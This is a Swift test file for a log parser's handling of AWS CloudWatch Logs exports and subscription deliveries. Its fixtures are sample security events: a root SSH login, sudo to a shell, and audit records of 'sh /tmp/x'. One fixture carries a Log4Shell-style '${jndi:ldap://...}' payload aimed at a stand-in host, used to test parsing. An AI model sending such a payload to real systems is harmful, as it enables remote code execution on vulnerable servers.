import Bytes
import Evidence
import Testing

@testable import LogParse

@Suite struct CloudWatchTests {
  private static let instance = "i-0b7c4e19d2f35a86e"
  private static let login =
    "Nov 25 05:20:12 web-1 sshd[2211]: Accepted password for root from 203.0.113.66 port 51234 ssh2"
  private static let sudo =
    "Nov 25 05:20:13 web-1 sudo: ops : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/bin/bash"
  private static let audit = [
    #"type=SYSCALL msg=audit(1795584012.123:456): arch=c000003e syscall=59 success=yes exit=0 pid=2 auid=1000 uid=0 comm="sh" exe="/bin/sh""#,
    #"type=EXECVE msg=audit(1795584012.123:456): argc=2 a0="sh" a1="/tmp/x""#,
  ]
  /// 2025-11-25T05:20:12.123Z
  private static let time: Int64 = 1_764_048_012_123

  private static func quoted(_ text: String) -> String {
    let plain = text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"")
    return "\"" + plain.replacing("\n", with: "\\n").replacing("\t", with: "\\t") + "\""
  }

  private static func events(_ lines: [String], stream: String? = nil) -> String {
    let rows = lines.enumerated().map { place, line in
      "{" + (stream.map { "\"logStreamName\":\"\($0)\"," } ?? "")
        + "\"timestamp\":\(time + Int64(place) * 1000),\n\"message\":\(quoted(line)),\"ingestionTime\":\(time + 5000)}"
    }
    return "{\"events\":[\n" + rows.joined(separator: ",\n") + "],\"nextForwardToken\":\"f/1\"}"
  }

  private static func delivery(
    _ lines: [String], group: String, stream: String = instance, type: String = "DATA_MESSAGE", step: Int64 = 1000
  ) -> String {
    let rows = lines.enumerated().map { place, line in
      "{\"id\":\"\(place)\",\"timestamp\":\(time + Int64(place) * step),\"message\":\(quoted(line))}"
    }
    return
      "{\"messageType\":\"\(type)\",\"owner\":\"111122223333\",\"logGroup\":\"\(group)\",\"logStream\":\"\(stream)\","
      + "\"subscriptionFilters\":[\"all\"],\"logEvents\":[" + rows.joined(separator: ",") + "]}"
  }

  /// Whether the place that an event names holds what it was read from.
  private static func at(_ event: Event?, _ text: String) -> String {
    guard let offset = event?.locator.offset, let length = event?.locator.length else { return "" }
    return Array(text.utf8).withView { $0.slice(Int(offset), Int(offset + length)).string }
  }

  @Test func linesOfSyslogInEvents() throws {
    for stream in [nil, Self.instance] {
      let text = Self.events([Self.login, "no line of syslog", Self.sudo], stream: stream)
      let dump = try EventDump(text, path: "x.json")
      #expect(dump.format == "aws.cloudwatch.logs")
      #expect(dump.events.map(\.dataType) == ["linux:auth:entry", "linux:auth:entry", "app:log:entry"])
      // The file's own time of collection is a year later.
      #expect(
        dump.events.first?.time
          == Timestamp(iso8601: "2025-11-25T05:20:12Z").map { time in
            Timestamp(nanoseconds: time.nanoseconds, precision: .second, zone: .inferred(0))
          })
      #expect(dump.events.first?.text("remote_address") == "203.0.113.66")
      #expect(dump.events.last?.time?.nanoseconds == (Self.time + 1000) * 1_000_000)
      #expect(dump.events.first?.entities.contains(Entity(.instance, Self.instance)) == (stream != nil))
      let place = Self.at(dump.events.first, text)
      #expect(place.hasPrefix("{") && place.hasSuffix("}") && place.contains("sshd[2211]") && !place.contains("sudo"))
      #expect(dump.events.first?.locator.line == 2)
      #expect(dump.coverages.allSatisfy { $0.state == .parsed })
    }
  }

  @Test func deliveriesOfSeveralLogsWithoutLineEnds() throws {
    let stack = "25-Nov-2025 05:20:12.123 SEVERE [exec-1] org.apache.X boom\njava.lang.Error: x\n\tat a.b.C(D.java:1)"
    let text =
      Self.delivery(["CWL CONTROL MESSAGE: Checking health"], group: "", stream: "", type: "CONTROL_MESSAGE")
      + Self.delivery([Self.login], group: "/var/log/secure")
      + Self.delivery(Self.audit, group: "/var/log/audit/audit.log", step: 0)
      + Self.delivery([WAFTests.record()], group: "aws-waf-logs-x", stream: "waf")
      + Self.delivery([stack], group: "catalina.out") + Self.delivery([Self.sudo], group: "/var/log/secure")
    let dump = try EventDump(text, path: "stream-1-2025")
    #expect(dump.format == "aws.cloudwatch.logs")
    #expect(
      dump.events.map(\.dataType) == [
        "linux:auth:entry", "linux:auth:entry", "linux:audit:syscall", "aws:waf:request", "app:log:entry",
      ])
    let run = dump.events.dropFirst(2).first
    #expect(run?.text("command_line") == "sh /tmp/x" && run?.text("log_group") == "/var/log/audit/audit.log")
    #expect(Self.at(run, text).contains("SYSCALL") && Self.at(run, text).contains("EXECVE"))
    #expect(dump.events.last?.text("text")?.hasSuffix("at a.b.C(D.java:1)") == true)
    #expect(dump.coverages.allSatisfy { $0.state == .parsed })
  }

  /// Subscriptions deliver at least once.
  @Test func deliveredTwice() throws {
    let one = Self.delivery(Self.audit, group: "audit.log", step: 0)
    let dump = try EventDump(one + one, path: "x")
    #expect(dump.events.map { $0.text("command_line") } == ["sh /tmp/x"])
    // What is in a log may begin like the service's own words.
    let forged = Self.delivery(["CWL CONTROL MESSAGE: ${jndi:ldap://203.0.113.66/a}"], group: "app")
    #expect(try EventDump(forged, path: "x").events.count == 1)
    // The same words in another stream, and of another number, are other messages.
    let two =
      Self.delivery([Self.login], group: "secure") + Self.delivery([Self.login], group: "secure", stream: "web-2")
    #expect(try EventDump(two, path: "x").events.count == 2)
    #expect(try EventDump(Self.delivery([Self.login, Self.login], group: "secure"), path: "x").events.count == 2)
  }

  /// A zone that nobody said shows in the distance from the envelopes' times, unless these are all over the place.
  @Test func zoneOfTheMessages() throws {
    let korean = Self.login.replacing("05:20:12", with: "14:20:12")
    let next = Self.sudo.replacing("05:20:13", with: "14:20:13")
    let dump = try EventDump(Self.events([korean, next], stream: "web-1"), path: "x.json")
    #expect(dump.events.first?.time?.zone == .inferred(540))
    #expect(dump.events.first?.time?.nanoseconds == (Self.time - 123) * 1_000_000)
    let mixed = try EventDump(Self.events([korean, Self.sudo], stream: "web-1"), path: "x.json")
    #expect(mixed.events.first?.time?.zone == .inferred(0))
    // An agent that was away for a quarter of an hour.
    let late = Self.login.replacing("05:20:12", with: "05:05:12")
    #expect(
      try EventDump(Self.events([late], stream: "web-1"), path: "x.json").events.first?.time?.zone == .inferred(0))
    let stated = try EventDump(Self.events([korean, next], stream: "web-1"), path: "x.json", zone: .stated(0))
    #expect(stated.events.first?.time?.zone == .stated(0))
  }

  @Test func rowsOfAQuery() throws {
    func row(_ line: String) -> String {
      #"[{"field":"@timestamp","value":"2025-11-25 05:20:12.123"},{"field":"@message","value":\#(Self.quoted(line))},"#
        + #"{"field":"@log","value":"111122223333:/var/log/secure"},{"field":"@logStream","value":"\#(Self.instance)"}]"#
    }
    let text = "{\"results\":[\n\(row(Self.login)),\n\(row(Self.sudo))],\"status\":\"Complete\"}"
    let dump = try EventDump(text, path: "x.json")
    #expect(dump.format == "aws.cloudwatch.logs" && dump.events.map(\.locator.line) == [2, 3])
    #expect(Self.at(dump.events.last, text) == row(Self.sudo))
    #expect(dump.events.first?.text("log_group") == "/var/log/secure")
    let console =
      #"[{"@timestamp":"2025-11-25 05:20:12.123","@message":\#(Self.quoted(Self.login)),"@ptr":"x"}]"#
    #expect(try EventDump(console, path: "x.json").events.map(\.dataType) == ["linux:auth:entry"])
    let cells = [Self.login, Self.sudo].map { "2025-11-25 05:20:12.123,\"\($0)\"\n" }.joined()
    let table = try EventDump("@timestamp,@message\n" + cells, path: "x.csv")
    #expect(
      table.format == "aws.cloudwatch.lines"
        && table.events.map(\.dataType) == ["linux:auth:entry", "linux:auth:entry"])
    #expect(table.events.map(\.locator.line) == [2, 3])
    // A table of something else whose cells have no such times.
    #expect(try EventDump("timestamp,message\n12,\"\(Self.login)\"\n", path: "x.csv").format != "aws.cloudwatch.lines")
  }

  @Test func linesWithTheServicesTimeInFront() throws {
    let exported = Self.audit.map { "2025-11-25T05:20:12.123Z \($0)\n" }.joined()
    let dump = try EventDump(exported, path: "000000")
    #expect(dump.format == "aws.cloudwatch.text" && dump.events.map(\.dataType) == ["linux:audit:syscall"])
    #expect(Self.at(dump.events.first, exported) == exported.dropLast())
    let tail = [Self.login, Self.sudo].map { "2025-11-25T05:20:12.123000+00:00 \(Self.instance) \($0)\n" }.joined()
    let lines = try EventDump(tail, path: "tail.txt")
    #expect(lines.format == "aws.cloudwatch.text" && lines.events.count == 2)
    #expect(lines.events.first?.text("program") == "sshd" && lines.events.first?.text("log_stream") == Self.instance)
    let iso =
      "2025-11-25T05:20:12.123Z 2025-11-25T05:20:11.5+00:00 web-1 sshd[2]: Accepted password for root from 203.0.113.6 port 5 ssh2\n"
    #expect(try EventDump(iso, path: "000000").events.first?.text("user") == "root")
    let access =
      "2025-11-25T05:20:12.123000+00:00 web/1 203.0.113.66 - - [25/Nov/2025:05:20:12 +0000] \"GET / HTTP/1.1\" 200 1\n"
    #expect(try EventDump(access, path: "tail.txt").events.first?.dataType == "web:access:request")
    // Syslog's own lines with times in ISO's form are what they were, whatever their programs say.
    for body in [
      "dockerd[9]: time=\"2025-11-25T05:20:12Z\" level=info msg=x", "kernel: [    1.0] Linux version 6",
      "nginx: 203.0.113.66 - - [25/Nov/2025:05:20:12 +0000] \"GET / HTTP/1.1\" 200 1",
    ] {
      #expect(
        try EventDump("2025-11-25T05:20:12.123456+00:00 web-1 \(body)\n", path: "syslog").format == "linux.syslog")
    }
    let own =
      "2025-11-25T05:20:12.123456+00:00 web-1 sshd[2]: Accepted password for root from 203.0.113.6 port 5 ssh2\n"
    #expect(try EventDump(own, path: "secure").format == "linux.syslog")
  }

  @Test func whatIsNoEnvelope() throws {
    for text in [
      #"{"timestamp":1764048012123,"message":"started","level":"INFO"}"#,
      #"{"events":[{"timestamp":"2025-11-25T05:20:12Z","message":"started"}]}"#,
      #"{"@timestamp":"2025-11-25T05:20:12Z","message":"started"}"#,
    ] {
      #expect(try EventDump(text, path: "x.json").format != "aws.cloudwatch.logs")
    }
  }

  /// Damage and mere size lose nothing of what is whole.
  @Test func damagedEnvelopes() throws {
    let whole = Self.delivery([Self.login, Self.sudo], group: "/var/log/secure")
    for count in stride(from: 0, to: whole.utf8.count, by: 7) {
      let bytes = Array(whole.utf8.prefix(count))
      _ = try EventDump(bytes, path: "x")
      _ = try EventDump(bytes + [0, 0xFF] + Array(whole.utf8), path: "x")
    }
    let many = (0..<4000).map { $0 % 2 == 0 ? Self.login : "a line of something else \($0)" }
    let dump = try EventDump(Self.delivery(many, group: "a"), path: "x")
    #expect(dump.events.count == 4000)
    let streams = (0..<600).map { Self.delivery([Self.login], group: "g", stream: "s\($0)") }.joined()
    #expect(try EventDump(streams, path: "x").events.count == 600)
    let long = try EventDump(Self.delivery([String(repeating: "x", count: 100_000)], group: "a"), path: "x")
    #expect(long.events.count == 1 && long.coverages.contains { $0.state == .skipped })
  }
}
